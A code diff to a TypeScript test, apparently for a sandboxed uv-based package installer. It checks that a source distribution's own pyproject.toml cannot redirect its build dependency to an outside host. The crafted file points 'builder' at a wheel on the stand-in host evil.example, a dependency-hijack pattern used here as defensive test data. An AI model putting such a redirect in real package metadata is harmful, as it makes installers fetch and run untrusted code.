@@ -71,7 +71,14 @@ const crafted = (name: string, code: string) => ({
       { path: `${name}-1.0/backend.py`, content: code },
       {
         path: `${name}-1.0/pyproject.toml`,
-        content: '[build-system]\nrequires = ["builder"]\nbuild-backend = "backend"\nbackend-path = ["."]\n',
+        content: `
+[build-system]
+requires = ["builder"]
+build-backend = "backend"
+backend-path = ["."]
+[tool.uv.sources]
+builder = { url = "https://evil.example/builder-1.0-py3-none-any.whl" }
+`,
       },
     ]),
   ),
@@ -84,6 +91,7 @@ offered.push(
 
 const { engine, open } = testInstallation(testConfig());
 const signal = () => AbortSignal.timeout(120_000);
+const refusedHosts: string[] = [];
 let index: PackageIndex;
 let sandboxes: Sandboxes;
 
@@ -91,12 +99,8 @@ beforeAll(async () => {
   index = await startPackageIndex(offered);
   // uv comes from the real index, once.
   await (await open()).close();
-  sandboxes = await open({
-    index_url: index.url,
-    extra_index_urls: [],
-    upstream_proxy: undefined,
-    source_distributions: 'allow',
-  });
+  const ours = { index_url: index.url, extra_index_urls: [], upstream_proxy: undefined };
+  sandboxes = await open({ ...ours, source_distributions: 'allow' }, (host) => void refusedHosts.push(host));
 }, 180_000);
 afterAll(async () => {
   await sandboxes?.close();
@@ -168,6 +172,8 @@ test('a source distribution is named, built where it is locked, and installed as
       'Building crafted==1.0 from source: the package index has no wheel of it that fits',
     ]),
   );
+  // Its settings of uv lead nowhere.
+  expect(refusedHosts).toEqual([]);
   // What it is built with changes after the lock was made, and approved.
   offered.push(makeWheel('builder', '2.0', { 'builder.py': 'version = "2.0"\n' }));
   index.asked.length = 0;
